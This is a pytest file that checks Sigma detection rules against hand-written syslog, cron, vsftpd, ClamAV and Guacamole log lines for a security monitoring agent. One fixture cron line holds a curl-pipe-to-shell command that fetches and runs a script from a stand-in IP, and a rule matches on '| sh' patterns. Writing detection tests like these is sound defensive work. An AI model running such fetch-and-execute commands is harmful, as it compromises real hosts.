"""Sigma rules of the syslog services (cron, vsftpd, clamav, guacamole, syslog) on the agent's
syslog-source events, end to end: hand-written line -> parser -> Event -> compiled rule.

The rules below are written here in the shape of the public ones for each service (keyword
searches over the record, some fields); none is copied.
"""

from __future__ import annotations

from typing import Any

import pytest
import yaml
from sigma.collection import SigmaCollection
from sigma.exceptions import SigmaTransformationError
from sigma.rule import SigmaRule

from agent.sources.syslog.config import DEFAULT_PROGRAMS
from agent.sources.syslog.parser import (
    ClamavLogParser,
    SyslogLineParser,
    VsftpdLogParser,
)
from canhgac.fields import event_fields, is_known_field
from canhgac.v1 import events_pb2
from collector.detection.base import CompiledRule
from collector.detection.compiler import compile_rule
from collector.detection.index import Anchor, RuleIndex, anchors
from collector.detection.logsources import syslog as syslog_logsources
from collector.detection.pipeline import canhgac_pipeline, unmapped_reason
from tests.agent.sources.harness import context

SERVICES = ("syslog", "cron", "vsftpd", "clamav", "guacamole")

LINES = {
    "crontab_replace": "Nov 22 09:40:12 web1 crontab[30112]: (www-data) REPLACE (www-data)",
    "cron_cmd": "Nov 22 12:17:01 web1 CRON[20811]: (root) CMD (/usr/local/bin/backup.sh)",
    "cron_download": "Nov 22 12:20:01 web1 CRON[20900]: (www-data) CMD (curl -fsSL "
    "http://203.0.113.80/x.sh | sh)",
    "vsftpd_replace": "Nov 22 10:03:10 ftp1 vsftpd[1830]: [ketoan] OK UPLOAD: Client "
    '"198.51.100.23", "/srv/ftp/REPLACE.txt", 12 bytes, 1.00Kbyte/sec',
    "vsftpd_fail": "Nov 22 10:02:33 ftp1 vsftpd[1822]: [ketoan] FAIL LOGIN: Client "
    '"::ffff:198.51.100.23"',
    "vsftpd_refused": "Nov 22 10:04:00 ftp1 vsftpd[1840]: Connection refused: too many sessions "
    "for this address.",
    "clamd_found": "Nov 22 11:20:45 mail1 clamd[977]: /tmp/.x/kworkerds: "
    "Unix.Trojan.Mirai-7100807-0 FOUND",
    "clamd_ok": "Nov 22 11:20:50 mail1 clamd[977]: SelfCheck: Database status OK.",
    "freshclam": "Nov 22 11:00:02 mail1 freshclam[880]: daily.cld updated (version: 27102)",
    "guacd_join": 'Nov 22 14:05:07 gw1 guacd[6120]: User "@3f2a" joined connection "$8c1d" '
    "(2 users now present)",
    "guacd_first": 'Nov 22 14:05:01 gw1 guacd[6120]: User "@1b2c" joined connection "$8c1d" '
    "(1 user now present)",
    "systemd_stop": "Nov 22 12:27:47 web1 systemd[1]: Stopping firewalld.service - firewalld - "
    "dynamic firewall daemon...",
    "named_axfr": "Nov 22 08:15:40 ns1 named[702]: client @0x7f3a 203.0.113.9#51234 "
    "(tinh.gov.vn): zone transfer 'tinh.gov.vn/AXFR/IN' denied",
}
OWN_LINES = {
    "vsftpd_log_fail": (
        "vsftpd",
        'Sun Nov 22 10:02:35 2026 [pid 1823] [ketoan] FAIL LOGIN: Client "198.51.100.23"',
    ),
    "clamav_log_found": (
        "clamav",
        "Sun Nov 22 11:20:45 2026 -> /var/www/upload/a.php: Php.Trojan.Agent-1 FOUND",
    ),
}


def parsed(name: str) -> events_pb2.Event:
    ctx = context()
    if name in OWN_LINES:
        fmt, line = OWN_LINES[name]
        parser: Any = VsftpdLogParser(ctx) if fmt == "vsftpd" else ClamavLogParser(ctx)
        event = parser.parse(line)
    else:
        event = SyslogLineParser(ctx, programs=DEFAULT_PROGRAMS).parse(LINES[name])
    assert isinstance(event, events_pb2.Event), event
    return event


ALL_EVENTS = [*LINES, *OWN_LINES]


def sigma(service: str, detection: dict[str, Any]) -> SigmaRule:
    doc = {
        "title": f"test {service}",
        "logsource": {"product": "linux", "service": service},
        "detection": detection,
    }
    rule = SigmaCollection.from_yaml(yaml.safe_dump(doc)).rules[0]
    assert isinstance(rule, SigmaRule)
    canhgac_pipeline().apply(rule)
    return rule


def compiled(service: str, detection: dict[str, Any]) -> CompiledRule:
    return compile_rule(sigma(service, detection))


def matching(rule: CompiledRule) -> set[str]:
    return {name for name in ALL_EVENTS if rule.predicate(event_fields(parsed(name)))}


# Rules shaped like the public ones, one or two per service, and the events each must meet.
RULES: list[tuple[str, dict[str, Any], set[str]]] = [
    ("cron", {"keywords": ["REPLACE"], "condition": "keywords"}, {"crontab_replace"}),
    (
        "cron",
        {"sel": {"command|contains": ["| sh", "| bash"]}, "condition": "sel"},
        {"cron_download"},
    ),
    (
        "vsftpd",
        {
            "keywords": ["Connection refused: too many sessions", "FAIL LOGIN"],
            "condition": "keywords",
        },
        {"vsftpd_refused", "vsftpd_fail", "vsftpd_log_fail"},
    ),
    (
        "vsftpd",
        {"sel": {"status": "FAIL LOGIN", "client|cidr": "198.51.100.0/24"}, "condition": "sel"},
        {"vsftpd_fail", "vsftpd_log_fail"},
    ),
    (
        "clamav",
        {"keywords": ["Trojan*FOUND", "Webshell*FOUND"], "condition": "keywords"},
        {"clamd_found", "clamav_log_found"},
    ),
    (
        "clamav",
        {"sel": {"signature|contains": "Mirai"}, "condition": "sel"},
        {"clamd_found"},
    ),
    ("guacamole", {"keywords": ["(2 users now present)"], "condition": "keywords"}, {"guacd_join"}),
    (
        "syslog",
        {"keywords": ["stopping firewalld", "zone transfer*denied"], "condition": "keywords"},
        {"systemd_stop", "named_axfr"},
    ),
]


@pytest.mark.parametrize(("service", "detection", "expected"), RULES)
def test_service_rules_meet_their_records_only(
    service: str, detection: dict[str, Any], expected: set[str]
) -> None:
    rule = compiled(service, detection)
    assert rule.categories == frozenset({"host"})
    assert matching(rule) == expected


def test_cron_rule_never_meets_a_vsftpd_record() -> None:
    # The vsftpd line names a file REPLACE.txt: the keyword is there, the service is not.
    rule = compiled("cron", {"keywords": ["REPLACE"], "condition": "keywords"})
    assert "REPLACE" in parsed("vsftpd_replace").original
    assert not rule.predicate(event_fields(parsed("vsftpd_replace")))
    catch_all = compiled("cron", {"keywords": ["*"], "condition": "keywords"})
    services = {n for n in matching(catch_all)}
    assert services == {"crontab_replace", "cron_cmd", "cron_download"}


def test_syslog_service_is_every_syslog_record_but_not_own_format_files() -> None:
    catch_all = compiled("syslog", {"keywords": ["*"], "condition": "keywords"})
    assert matching(catch_all) == set(LINES)


def test_a_process_event_of_cron_is_not_a_cron_record() -> None:
    rule = compiled("cron", {"keywords": ["backup"], "condition": "keywords"})
    process = {
        "event.category": "process",
        "event.type": "start",
        "process.name": "cron",
        "process.command_line": "/bin/sh -c /usr/local/bin/backup.sh",
    }
    assert not rule.predicate(process)
    assert rule.predicate(event_fields(parsed("cron_cmd")))


@pytest.mark.parametrize("service", SERVICES)
def test_services_are_mapped(service: str) -> None:
    assert unmapped_reason(sigma(service, {"k": ["x"], "condition": "k"}).logsource) is None


def test_field_mapping_targets_are_in_the_vocabulary() -> None:
    for ls in syslog_logsources.LOGSOURCES:
        assert [t for t in ls.fields.values() if not is_known_field(t)] == []
        assert [c for c in ls.conditions if not is_known_field(c)] == []


def test_other_linux_services_stay_refused() -> None:
    with pytest.raises(SigmaTransformationError, match="service=postfix"):
        sigma("postfix", {"k": ["x"], "condition": "k"})


@pytest.mark.parametrize(("service", "detection", "expected"), RULES)
def test_rules_are_indexed_and_not_met_by_every_event(
    service: str, detection: dict[str, Any], expected: set[str]
) -> None:
    rule = sigma(service, detection)
    found = anchors(rule.detection.parsed_condition[0].parsed)
    assert found, "the rule would be evaluated on every event"
    # The record's format or program, or a field of its own: never the category alone, nor a
    # keyword on the whole line (which the index finds only in long text).
    assert not {a.field for a in found} & {"event.category", "event.original"}
    index: RuleIndex[str] = RuleIndex([service], lambda _: found)
    assert index.indexed == 1
    others = [
        {"event.category": "host", "event.action": "agent_status"},
        {
            "event.category": "process",
            "process.name": "cron",
            "process.executable": "/usr/sbin/cron",
        },
        {"event.category": "host", "canhgac.log.format": "zeek", "canhgac.log.name": "http"},
    ]
    assert [fields for fields in others if index.candidates(fields)] == []
    for name in expected:
        assert list(index.candidates(event_fields(parsed(name)))) == [service]


def test_single_program_services_are_anchored_on_the_program() -> None:
    rule = sigma("vsftpd", {"keywords": ["FAIL LOGIN"], "condition": "keywords"})
    found = anchors(rule.detection.parsed_condition[0].parsed)
    assert found == frozenset({Anchor("process.name", "vsftpd", True)})
